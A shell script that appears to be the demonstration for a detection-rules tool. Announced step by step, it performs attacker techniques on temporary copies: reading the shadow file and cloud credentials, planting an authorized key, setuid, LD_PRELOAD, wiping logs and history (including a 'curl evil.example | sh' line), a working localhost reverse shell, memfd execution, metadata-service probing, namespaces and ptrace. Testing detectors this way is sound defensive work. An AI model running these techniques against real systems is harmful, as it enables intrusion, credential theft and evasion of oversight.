#!/bin/sh
# The demonstration of `make run`: real deeds, of the kind that rules are written
# for, each announced by a line. Nothing is harmed: what is changed are copies in
# a folder that is removed at the end, and no packet leaves this machine. An
# ordinary user may run it; what then fails says so.

set -u

dir=$(mktemp -d) || exit 1
memory=
clean() {
	printf '\n# removing all that was made, the copies of log and history too\n'
	rm -rf "$dir" ${memory:+"$memory"}
}
trap clean EXIT
trap 'exit 1' HUP INT TERM

deed() { printf '\n# %s\n' "$*"; }
refused() { echo "  not done: ${1:-refused here}"; }
have() { command -v "$1" >/dev/null 2>&1; }

deed 'reading the shadow file'
cat /etc/shadow >/dev/null 2>&1 || refused 'needs root'

deed 'making a link to the shadow file under a harmless name'
ln -s /etc/shadow "$dir/report.txt"

deed 'reading a private key and the credentials of a cloud (copies, in a home of our own)'
mkdir -p "$dir/home/.ssh" "$dir/home/.aws"
echo 'no key' >"$dir/home/.ssh/id_ed25519"
echo '[default]' >"$dir/home/.aws/credentials"
cat "$dir/home/.ssh/id_ed25519" "$dir/home/.aws/credentials" >/dev/null

deed 'adding a key to those that may log in (in the same home)'
echo 'ssh-ed25519 AAAA intruder' >>"$dir/home/.ssh/authorized_keys"

deed 'setting the setuid bit on a copy of a program'
cp /bin/sh "$dir/shell"
chmod u+s "$dir/shell" || refused
rm -f "$dir/shell"

deed 'running a program from /dev/shm'
if memory=$(mktemp -d /dev/shm/tiercel.XXXXXX 2>/dev/null); then
	cp /usr/bin/env "$memory/program" 2>/dev/null
	"$memory/program" true 2>/dev/null || refused 'programs may not be run there'
	rm -rf "$memory"
else
	refused 'there is no /dev/shm'
fi
memory=

deed 'starting a program with a library from /tmp in it'
LD_PRELOAD=/tmp/no-such-library.so env true 2>/dev/null

deed 'emptying a log of logins (a copy)'
mkdir -p "$dir/var/log"
echo 'someone logged in' >>"$dir/var/log/auth.log"
: >"$dir/var/log/auth.log"

deed 'forgetting what was typed (a copy)'
echo 'curl evil.example | sh' >>"$dir/home/.bash_history"
ln -sf /dev/null "$dir/home/.bash_history"

deed "reading another process's environment"
sleep 5 &
other=$!
cat "/proc/$other/environ" >/dev/null 2>&1 || refused
kill "$other"
wait "$other" 2>/dev/null

deed 'a server that starts a shell (a script by that name)'
printf '#!/bin/sh\nsh -c "exit 0"\nexit 0\n' >"$dir/nginx"
chmod 755 "$dir/nginx"
"$dir/nginx" || refused 'programs may not be run there'

if ! have python3; then
	deed 'the rest'
	refused 'needs python3'
	exit 0
fi

deed 'a reverse shell: its input and output are a connection (to this machine)'
python3 - <<'PYTHON' || refused
import os, socket
server = socket.create_server(("127.0.0.1", 0))
if os.fork() == 0:
    link = socket.create_connection(server.getsockname())
    for fd in 0, 1, 2:
        os.dup2(link.fileno(), fd)
    os.execv("/bin/sh", ["sh"])
link, _ = server.accept()
link.sendall(b"echo hello from the shell; exit\n")
print("  over the connection came:", link.makefile().readline().strip())
os.wait()
PYTHON

deed 'running a program that is no file, but memory'
python3 - <<'PYTHON' || refused
import os, shutil
fd = os.memfd_create("innocent")
with open(shutil.which("env"), "rb") as f:
    os.write(fd, f.read())
if os.fork() == 0:
    os.set_inheritable(fd, True)
    os.execv(f"/proc/self/fd/{fd}", ["env", "true"])
os._exit(0 if os.wait()[1] == 0 else 1)
PYTHON

deed "connecting a socket to the clouds' metadata service (UDP: nothing is sent)"
python3 - <<'PYTHON' || refused
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect_ex(("169.254.169.254", 80))
PYTHON

deed 'making a user namespace, to be root in it'
python3 - <<'PYTHON' || refused
import ctypes, os
os._exit(0 if ctypes.CDLL(None).unshare(0x10000000) == 0 else 1)
PYTHON

deed 'attaching to a process, as a debugger does (to a child that then ends)'
python3 - <<'PYTHON' || refused
import ctypes, os, signal, time
child = os.fork()
if child == 0:
    time.sleep(10)
    os._exit(0)
ctypes.CDLL(None).ptrace(16, child, None, None)
os.kill(child, signal.SIGKILL)
os.wait()
PYTHON
